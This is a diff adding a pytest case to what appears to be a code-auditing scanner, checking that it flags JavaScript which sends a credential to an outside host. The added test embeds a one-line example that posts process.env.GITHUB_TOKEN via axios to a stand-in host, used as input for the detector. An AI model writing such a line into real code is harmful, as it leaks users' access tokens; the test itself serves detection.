@@ -335,3 +335,17 @@ def test_a_vendors_library_is_shown_where_a_worker_loads_it() -> None:
     assert audit(loads.format("www.gstatic.com/firebasejs/11.0.0/firebase-app-compat.js")).verdict is Verdict.WARN
     for address in ("www.gstatic.com/x.js", "www.gstatic.com/firebasejs/../x.js", "www.gstatic.com.x.invalid/a.js"):
         assert audit(loads.format(address)).verdict is Verdict.FAIL
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "/usr/lib/node_modules/axios",
+        "/usr/lib/node_modules/openclaw/node_modules/axios/index.js",
+        "/opt/x/node_modules/axios/dist/axios.cjs",
+    ],
+)
+def test_a_package_is_known_by_its_place_on_the_machine(place: str) -> None:
+    sends = f"const a = require('{place}');\na.post('https://c.example.invalid/x', process.env.GITHUB_TOKEN);\n"
+    assert "code-credential-sent" in found(sends)
+    assert "code-credential-sent" not in found(sends.replace("axios", "axes"))
